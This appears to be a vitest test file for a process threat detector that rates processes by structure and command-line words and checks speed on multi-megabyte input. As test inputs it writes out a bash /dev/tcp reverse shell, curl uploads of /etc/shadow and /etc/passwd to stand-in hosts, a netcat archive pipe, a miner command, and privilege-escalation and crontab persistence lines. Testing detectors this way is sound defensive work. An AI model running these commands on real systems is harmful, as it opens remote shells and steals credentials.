// One process is judged by structure and words together; nothing of its words is in the verdict; long input stays cheap.
import { expect, test } from 'vitest';
import { judge, judgeLine } from '../../../../../detectors/process/threats/verdict/judge.ts';

test('structure alone is enough, whatever the command line says', () => {
  expect(judge({ pid: 1, argv: ['[kworker/1]'], exe: '/usr/bin/x', kernelThread: false }).tier).toBe('critical');
  expect(judge({ pid: 1, argv: ['sshd'], exe: '/bin/bash', stdioIsOneSocket: true })).toMatchObject({
    tier: 'critical',
    category: 'reverse_shells',
  });
});

test('words alone are enough', () => {
  expect(judge({ pid: 1, argv: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1'] }).tier).toBe('critical');
});

test('weak facts add to words', () => {
  const words = ['./x', '--algo', 'rx/0', '-o', '203.0.113.9:443'];
  expect(judge({ pid: 1, argv: words }).tier).toBe('medium');
  expect(judge({ pid: 1, argv: words, exe: '/tmp/x', cpuCores: 4 }).tier).toBe('critical');
});

test('a process without arguments and facts is no threat', () => {
  expect(judge({ pid: 1, argv: [] })).toMatchObject({ tier: 'none', score: 0 });
});

test('an argument in a list of arguments is no syntax', () => {
  expect(judge({ pid: 1, argv: ['echo', 'x; bash -i >& /dev/tcp/h/1 0>&1'] }).threat).toBe(false);
});

test('nothing of the command line is in the verdict', () => {
  const verdict = JSON.stringify(judgeLine("curl -F 'f=@/etc/shadow' http://secret-host.example/token-xyz"));
  expect(verdict).not.toContain('secret-host');
  expect(verdict).not.toContain('token-xyz');
});

test('the same line gives the same verdict', () => {
  expect(judgeLine('sudo find / -exec /bin/sh \\;')).toEqual(judgeLine('sudo find / -exec /bin/sh \\;'));
});

const size = 2_000_000;
const heavy = [
  'a ',
  'a;',
  'a|',
  "'",
  '"',
  '$(',
  '`',
  '(',
  'sudo ',
  'sh -c "',
  '/bin/sh ',
  '>a ',
  '${',
  '\\',
  '<<E\n',
  'echo x>a;',
  'chmod 777 a;',
  'curl -d @/etc/passwd ',
  'system("',
  'socket.socket open( ',
  'socat tcp-listen:1,',
  'finger `',
  'find / -exec ',
  '(crontab -l; echo "* * * * * x") | crontab -;',
  'useradd -u x;',
  'tar c / | nc b 1;',
  '1.',
  '/',
  '-',
  '=',
];

test.each(heavy)('2 MB of %j is judged in less than 50 ms of CPU', (unit) => {
  const text = unit.repeat(size / unit.length);
  const argv = ['sh', '-c', ...Array.from({ length: 15 }, () => text.slice(0, 131_000))];
  const best = (work: () => unknown): number => Math.min(...[1, 2, 3].map(() => cpuMilliseconds(work)));
  expect(best(() => judgeLine(text))).toBeLessThan(50);
  expect(best(() => judge({ pid: 1, argv }))).toBeLessThan(50);
});

test.each([
  { given: 'before', text: (pad: string) => `${pad};bash -i >& /dev/tcp/203.0.113.9/1 0>&1` },
  { given: 'after', text: (pad: string) => `bash -i >& /dev/tcp/203.0.113.9/1 0>&1;${pad}` },
  { given: 'around', text: (pad: string) => `${pad};bash -i >& /dev/tcp/203.0.113.9/1 0>&1;${pad}` },
])('1 MB of padding $given hides nothing', ({ text }) => {
  expect(judgeLine(text('true;'.repeat(200_000))).tier).toBe('critical');
});

function cpuMilliseconds(work: () => unknown): number {
  const before = process.cpuUsage();
  const start = performance.now();
  work();
  const wall = performance.now() - start;
  const { user, system } = process.cpuUsage(before);
  return Math.min(wall, (user + system) / 1_000);
}
